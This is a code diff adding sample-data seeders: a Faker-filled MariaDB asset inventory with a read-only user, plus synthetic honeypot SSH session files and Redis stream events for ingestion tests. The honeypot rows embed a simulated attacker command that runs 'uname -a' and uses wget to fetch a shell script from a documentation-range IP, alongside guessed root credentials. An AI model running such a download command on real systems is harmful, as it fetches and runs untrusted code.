@@ -116,3 +116,107 @@ def _fill(conn, n_customers: int, n_tickets: int) -> None:
                     f"{en.paragraph(nb_sentences=3)} Contact: {en.name()}, {en.phone_number()}.",
                     en.email(), created, created + timedelta(hours=i % 48),
                 ))
+
+
+# ---------------------------------------------------------------- MariaDB: asset inventory
+ASSETS_DB = "sting_sample_assets"
+ASSETS_READER = "sting_reader"
+
+
+def seed_sample_mysql(n_assets: int = 400) -> dict:
+    """A device inventory in MariaDB (the sample of the database/mariadb comb): created once,
+    filled when empty; a reader user with a fresh random password, returned for Vault only."""
+    import pymysql
+    from faker import Faker
+
+    s = get_settings()
+    conn = pymysql.connect(host=s.mysql_host, port=s.mysql_port, user="root", autocommit=True, connect_timeout=5)
+    password = secrets.token_urlsafe(24)
+    try:
+        with conn.cursor() as c:
+            c.execute(f"CREATE DATABASE IF NOT EXISTS `{ASSETS_DB}`")
+            c.execute(f"""CREATE TABLE IF NOT EXISTS `{ASSETS_DB}`.assets (
+                id BIGINT PRIMARY KEY, hostname VARCHAR(100) NOT NULL, owner_name VARCHAR(200),
+                owner_email VARCHAR(200), ip_address VARCHAR(45), mac_address VARCHAR(17),
+                serial_number VARCHAR(40), site VARCHAR(100), notes TEXT,
+                updated_at DATETIME(6) NOT NULL, KEY idx_updated_at (updated_at))""")
+            c.execute(f"SELECT COUNT(*) FROM `{ASSETS_DB}`.assets")
+            if c.fetchone()[0] == 0:
+                fake = Faker("en_US")
+                Faker.seed(20261124)
+                now = datetime.now(UTC).replace(minute=0, second=0, microsecond=0, tzinfo=None)
+                rows = []
+                for i in range(1, n_assets + 1):
+                    owner = fake.name()
+                    rows.append((i, f"host-{i:04d}.corp.example.com", owner, fake.company_email(),
+                                 fake.ipv4_private(), fake.mac_address(), fake.bothify("SN-####-????").upper(),
+                                 fake.city(), f"Assigned to {owner}; ticket from {fake.email()}",
+                                 now - timedelta(minutes=(i * 41) % (3 * 24 * 60))))
+                c.executemany(f"INSERT INTO `{ASSETS_DB}`.assets VALUES (%s,%s,%s,%s,%s,%s,%s,%s,%s,%s)", rows)
+            c.execute("CREATE USER IF NOT EXISTS %s@'%%' IDENTIFIED BY %s", (ASSETS_READER, password))
+            c.execute("ALTER USER %s@'%%' IDENTIFIED BY %s", (ASSETS_READER, password))
+            c.execute(f"GRANT SELECT ON `{ASSETS_DB}`.* TO %s@'%%'", (ASSETS_READER,))
+            c.execute(f"SELECT COUNT(*) FROM `{ASSETS_DB}`.assets")
+            count = c.fetchone()[0]
+    finally:
+        conn.close()
+    return {"assets": count, "password": password}
+
+
+# ---------------------------------------------------------------- files, stream events
+def write_sample_landing(folder) -> list[str]:
+    """Honeypot session exports as an operator would drop them: CSV, JSON Lines, Parquet, and
+    one malformed line (rejected alone). Deterministic content: rewriting changes nothing."""
+    import json
+    from pathlib import Path
+
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+    from pyarrow import csv
+
+    folder = Path(folder)
+    (folder / "2026-11").mkdir(parents=True, exist_ok=True)
+    rows = [{"session_id": i, "honey_jar": f"ssh-{i % 3:02d}", "src_ip": f"203.0.113.{i % 250}",
+             "username": ["root", "admin", "pi", "ubuntu"][i % 4], "password": f"guess{i}",
+             "commands": f"uname -a; wget http://198.51.100.{i % 200}/x.sh",
+             "started_at": f"2026-11-{1 + i % 20:02d}T{i % 24:02d}:00:00Z"} for i in range(1, 121)]
+    out = []
+    p = folder / "2026-11" / "sessions-a.csv"
+    csv.write_csv(pa.Table.from_pylist(rows[:40]), p)
+    out.append(str(p))
+    p = folder / "2026-11" / "sessions-b.jsonl"
+    lines = [json.dumps(r) for r in rows[40:80]]
+    lines.insert(5, '{"session_id": 9999, "truncated')  # a malformed export line
+    p.write_text("\n".join(lines) + "\n")
+    out.append(str(p))
+    p = folder / "2026-11" / "sessions-c.parquet"
+    pq.write_table(pa.Table.from_pylist(rows[80:]), p)
+    out.append(str(p))
+    return out
+
+
+SAMPLE_STREAM = "sting:events:honeypot"
+
+
+def publish_sample_events(n: int = 200, redis_url: str | None = None) -> int:
+    """Honeypot events on a Redis stream (one malformed). Returns the stream length."""
+    import json
+
+    import redis
+
+    r = redis.Redis.from_url(redis_url or get_settings().redis_url)
+    try:
+        pipe = r.pipeline()
+        base = datetime.now(UTC).replace(microsecond=0)
+        for i in range(1, n + 1):
+            if i == n // 2:
+                pipe.xadd(SAMPLE_STREAM, {"data": "{not json"})
+                continue
+            pipe.xadd(SAMPLE_STREAM, {"data": json.dumps({
+                "event_type": ["login_attempt", "command", "download"][i % 3], "honey_jar": f"ssh-{i % 3:02d}",
+                "source_ip": f"192.0.2.{i % 250}", "username": "root", "password": f"p@ss{i}",
+                "user_agent": "SSH-2.0-Go", "at": (base - timedelta(seconds=n - i)).isoformat()})})
+        pipe.execute()
+        return r.xlen(SAMPLE_STREAM)
+    finally:
+        r.close()
